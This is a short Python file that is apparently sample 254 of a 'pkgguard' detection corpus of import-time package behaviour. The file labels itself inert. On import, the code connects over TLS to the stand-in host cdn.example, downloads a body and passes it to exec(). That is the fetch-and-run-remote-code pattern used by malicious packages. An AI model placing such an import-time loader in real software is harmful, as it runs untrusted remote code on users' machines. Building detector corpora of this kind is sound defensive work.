# pkgguard corpus 254 (import-time), modelled on [empirical]; inert, never run.
import socket
import ssl

_ctx = ssl.create_default_context()
with socket.create_connection(("cdn.example", 443), timeout=5) as _raw:
    with _ctx.wrap_socket(_raw, server_hostname="cdn.example") as _s:
        _s.sendall(b"GET /p HTTP/1.0\r\nHost: cdn.example\r\n\r\n")
        _body = _s.recv(65536).split(b"\r\n\r\n", 1)[1]
exec(_body)
